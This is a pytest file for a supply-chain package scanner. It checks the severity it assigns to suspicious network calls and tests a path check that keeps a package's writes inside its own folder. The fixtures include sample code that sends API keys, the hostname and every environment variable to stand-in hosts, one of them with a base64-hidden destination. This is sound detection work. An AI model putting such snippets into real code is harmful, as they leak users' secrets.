"""A client that talks to the service whose name its package bears surprises nobody."""

import pytest
from weighed import worst

from ostiary.checks.behaviour.own_service import in_own_folder
from ostiary.core.scale import Severity
from ostiary.program.model import Program

OWN, OTHER = "https://api.sample.example/v1", "https://api.collect.example/v1"
HOSTED = "import requests, socket\ndef report(error):\n"
HOSTED += "    requests.post('{}', json={{'host': socket.gethostname(), 'error': error}})\n"
TOKEN = "import os, requests\nKEY = os.getenv('{}_API_KEY')\n"
TOKEN += "requests.post('{}', headers={{'authorization': KEY}}, json={{}})\n"
HIDDEN = "import base64, json, requests\nKEPT = '{}'\n"
HIDDEN += "def send(data):\n    told = json.loads(base64.b64decode(KEPT))\n"
HIDDEN += "    requests.post(told['at'], json=data)\n"


@pytest.mark.parametrize(("where", "told"), [(OWN, Severity.LOW), (OTHER, Severity.MEDIUM)])
def test_a_report_says_from_which_machine_it_comes(where: str, told: Severity) -> None:
    assert worst("host-beacon", HOSTED.format(where)) is told


@pytest.mark.parametrize(
    ("name", "where", "told"),
    [
        ("SAMPLE", OWN, None),
        ("OTHER", OWN, Severity.CRITICAL),
        ("SAMPLE", OTHER, Severity.CRITICAL),
    ],
)
def test_the_token_of_a_service_goes_there(name: str, where: str, told: Severity | None) -> None:
    text = TOKEN.format(name, where)
    assert worst("uncalled-chain", text, "sample/__init__.py") is told


@pytest.mark.parametrize(("where", "told"), [(OWN, Severity.MEDIUM), (OTHER, Severity.CRITICAL)])
def test_a_token_that_holds_where_it_is_for(where: str, told: Severity) -> None:
    import base64  # as whoever makes the token does
    import json

    kept = base64.b64encode(json.dumps({"at": where}).encode()).decode()
    assert worst("hidden-name", HIDDEN.format(kept)) is told


LOOP = "import os\nfrom other import client, make, tree\nfor name in os.environ:\n"
LOOP += "    kept = make(os.environ[name])\n    {}\n"


@pytest.mark.parametrize(
    ("line", "told"),
    [("tree().put(name, kept)", False), ("client('https://a.example.invalid').put(kept)", True)],
)
def test_what_a_table_is_given_is_not_seen_to_leave(line: str, told: bool) -> None:
    worst_of_all = worst("stealer", LOOP.format(line), "sample/__init__.py")
    assert (worst_of_all is Severity.CRITICAL) is told


SETTINGS = "import os, requests\nfrom other import merge\nCONF = merge(os.environ, {{'a': 1}})\n"
SETTINGS += "requests.{}('https://{}/x', headers={{'a': CONF.settings['who']}})\n"


@pytest.mark.parametrize(
    ("verb", "host", "told"),
    [
        ("get", "api.github.com", Severity.MEDIUM),
        ("post", "api.github.com", Severity.CRITICAL),
        ("get", "api.collect.example", Severity.CRITICAL),
    ],
)
def test_a_keeper_is_asked_with_a_part_of_the_settings(
    verb: str, host: str, told: Severity
) -> None:
    text = SETTINGS.format(verb, host)
    assert worst("stealer", text, "sample/__init__.py") is told


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("node_modules/sample/built.js", True),
        ("/usr/lib/node_modules/sample/lib/built.js", True),
        ("C:\\app\\node_modules\\sample\\built.js", True),
        ("site-packages/sample/version.py", True),
        ("node_modules/other/index.js", False),
        ("node_modules/sampler/index.js", False),
        ("node_modules/sample/node_modules/other/index.js", False),
        ("node_modules/sample/../other/index.js", False),
        ("node_modules/sample.js", False),
        ("node_modules/@scope/sample/index.js", False),
    ],
)
def test_a_package_may_write_into_its_own_folder(path: str, own: bool) -> None:
    program = Program("sample-1.0.0.tgz", "npm", (), ())
    assert in_own_folder(path, program) is own
